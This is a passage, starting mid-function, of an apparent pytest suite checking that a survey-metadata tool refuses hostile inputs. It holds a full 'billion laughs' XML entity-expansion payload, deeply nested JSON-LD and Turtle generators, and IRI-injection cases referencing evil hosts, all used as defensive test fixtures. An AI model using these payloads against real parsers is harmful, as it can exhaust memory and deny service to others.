                                                                  attack: str) -> None:
    iri = INJECTIONS[attack]
    if where == "subject":
        bad = jsonld_record(tmp_path, "bad.jsonld", iri)
    elif where == "object":
        bad = jsonld_record(tmp_path, "bad.jsonld", SURVEY_BASE + "xx", **{"http://purl.org/dc/terms/source": {"@id": iri}})
    else:
        bad = jsonld_record(tmp_path, "bad.jsonld", SURVEY_BASE + "xx", **{"@type": iri})
    code, output = run(capsys, *_commands(bad, tmp_path)[command])
    assert code == 3 and f"{bad}" in output, output
    assert not any(line.startswith("<http://evil") for line in output.splitlines())  # never data
    clean(output)
    assert not (tmp_path / "site").exists()
    if command == "query":
        assert f"<{SURVEY_BASE}gb-ips>" in output  # the other record is still answered


def test_row05_relative_iris_resolve_against_the_project_base(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    record = jsonld_record(tmp_path, "rel.jsonld", "survey/xx-relative")
    answers = []
    for folder in (tmp_path, REPO):
        monkeypatch.chdir(folder)
        code, output = run(capsys, "query", "--no-reference", "--data", str(record), "--format", "tsv",
                           "-e", "SELECT ?s WHERE { ?s ?p ?o }")
        assert code == 0, output
        answers.append(output)
    assert answers[0] == answers[1] and "file:" not in answers[0] and "https://w3id.org/migrmeta/" in answers[0]


def _deep_json(depth: int) -> str:
    return '{"@id": "https://w3id.org/migrmeta/survey/deep", "https://example.org/p": ' + \
        '{"https://example.org/p": ' * depth + '"x"' + "}" * depth + "}"


@pytest.mark.parametrize("command", ["validate", "publish", "push", "query", "merge"])
def test_row06_deep_json_ld_and_context_cycles_are_input_errors(capsys: pytest.CaptureFixture[str],
                                                                tmp_path: Path, command: str) -> None:
    deep = tmp_path / "deep.jsonld"
    deep.write_text(_deep_json(10_000), encoding="utf-8")
    (tmp_path / "a.jsonld").write_text('{"@context": "b.jsonld", "@id": "https://example.org/x"}', encoding="utf-8")
    (tmp_path / "b.jsonld").write_text('{"@context": "a.jsonld"}', encoding="utf-8")
    for bad, said in ((deep, "limit `depth`"), (tmp_path / "a.jsonld", "context")):
        code, output = run(capsys, *_commands(bad, tmp_path)[command])
        assert code == 3 and str(bad) in output and said in output, output
        clean(output)


def _deep_turtle(kind: str, size: int) -> str:
    head = "@prefix dct: <http://purl.org/dc/terms/> .\n"
    if kind == "list":
        return head + "<https://w3id.org/migrmeta/survey/deep> dct:source (" + " ".join(f'"{n}"' for n in range(size)) + ") .\n"
    return head + "<https://w3id.org/migrmeta/survey/deep> dct:source " + "[ dct:source " * size + '"x"' + " ]" * size + " .\n"


@pytest.mark.parametrize("command", ["validate", "publish", "merge", "export-form"])
@pytest.mark.parametrize("kind", ["list", "nesting"])
def test_row07_deep_turtle_is_refused_before_any_command_walks_it(capsys: pytest.CaptureFixture[str],
                                                                  tmp_path: Path, command: str, kind: str) -> None:
    bad = tmp_path / "deep.ttl"
    bad.write_text(_deep_turtle(kind, 2_000), encoding="utf-8")
    argv = ["export", "form", str(bad), "-o", str(tmp_path / "out.yaml")] if command == "export-form" else \
        _commands(bad, tmp_path)[command]
    code, output = run(capsys, *argv)
    assert code == 3 and str(bad) in output and ("list_length" in output or "limit `depth`" in output), output
    clean(output)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [
 <!ENTITY a "lollollollollollollollollollol">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
 <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
 <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dct="http://purl.org/dc/terms/">
  <rdf:Description rdf:about="https://w3id.org/migrmeta/survey/lol"><dct:title>&i;</dct:title></rdf:Description>
</rdf:RDF>
"""


@pytest.mark.parametrize("command", ["validate", "query", "import-dcat"])
def test_row08_rdf_xml_billion_laughs_is_refused_naming_the_file(capsys: pytest.CaptureFixture[str],
                                                                 tmp_path: Path, command: str) -> None:
    bad = tmp_path / "lol.rdf"
    bad.write_text(BILLION_LAUGHS, encoding="utf-8")
    argv = ["import", "dcat", str(bad), "-o", str(tmp_path / "out")] if command == "import-dcat" else \
        _commands(bad, tmp_path)[command]
    code, output = run(capsys, *argv)
    assert code == 3 and f"{bad}:2" in output and "entit" in output, output  # the DOCTYPE line
    clean(output)


# --- row 20: line numbers looked up from one index per file ----------------------------------------


def test_row20_many_invalid_values_share_one_line_index(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from migrmeta.load import record

    values = ", ".join(f'"bad value {n}"' for n in range(300))
    bad = variant(tmp_path, "bad.ttl", ("mm:sampleType st:probability.time-location ;",
                                        f"mm:sampleType st:probability.time-location, {values} ;"))
    built: list[int] = []
    original = record.LineIndex.__init__

    def counting(self: record.LineIndex, data: bytes, source: str | None = None) -> None:
        built.append(len(data))
        original(self, data, source)

    monkeypatch.setattr(record.LineIndex, "__init__", counting)
    code, output = run(capsys, "validate", "--no-cache", "--jobs", "1", str(bad))
    assert code == 1
    lines = [line for line in output.splitlines() if "is not a sample type" in line]
    assert len(lines) == 300 and all(line.strip().startswith(f"{bad}:") for line in lines)
    assert len(built) == 1  # one index for the file, however many findings


# --- must-show 4: every input file is bound by `file_mb`, named when hit ----------------------------


@pytest.mark.parametrize("command", ["validate", "import-form", "import-sheet", "import-ddi", "import-dcat"])
def test_files_over_the_size_limit_are_refused_before_they_are_read(capsys: pytest.CaptureFixture[str],
                                                                    tmp_path: Path, command: str) -> None:
    suffix = {"validate": ".ttl", "import-form": ".yaml", "import-sheet": ".csv", "import-ddi": ".xml",
              "import-dcat": ".ttl"}[command]
    big = tmp_path / f"big{suffix}"
    big.write_text("#" * 300_000 + "\n", encoding="utf-8")
    out = tmp_path / "out"
    argv = ["validate", "--no-cache", str(big)] if command == "validate" else \
        ["import", command.split("-")[1], str(big), "-o", str(out / "x.ttl" if command == "import-form" else out)]
    code, output = run(capsys, "--limit", "file_mb=0.2", *argv)
    assert code == 3 and str(big) in output and "file_mb" in output, output
    clean(output)


# --- must-show 8: every limit documented, with its default ------------------------------------------


def test_every_limit_is_documented_with_its_default() -> None:
    from dataclasses import fields

    from migrmeta.limits import DEFAULT_LIMITS

    doc = (REPO / "docs" / "security.md").read_text(encoding="utf-8")
    for limit in fields(DEFAULT_LIMITS):
        default = getattr(DEFAULT_LIMITS, limit.name)
        assert f"| `{limit.name}` | {default:g} |" in doc, limit.name


def test_publish_names_pages_by_the_names_rule(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """A record id the shapes accept but Windows reserves (`con`) never names a file."""
    folder = tmp_path / "in"
    folder.mkdir()
    bad = variant(folder, "con.ttl", ("survey:gb-ips", "survey:con"), ('"gb-ips"', '"con"'))
    _site_inputs(folder, bad)
    site = tmp_path / "site"
    code, output = run(capsys, "publish", "--no-cache", "-o", str(site), str(folder))
    assert code == 0, output
    names = {p.stem.lower() for p in (site / "surveys").iterdir()}
    assert "con" not in names and "ph-sof-2019" in names
    assert any(name.startswith("s-") for name in names)  # named by a hash of its IRI instead
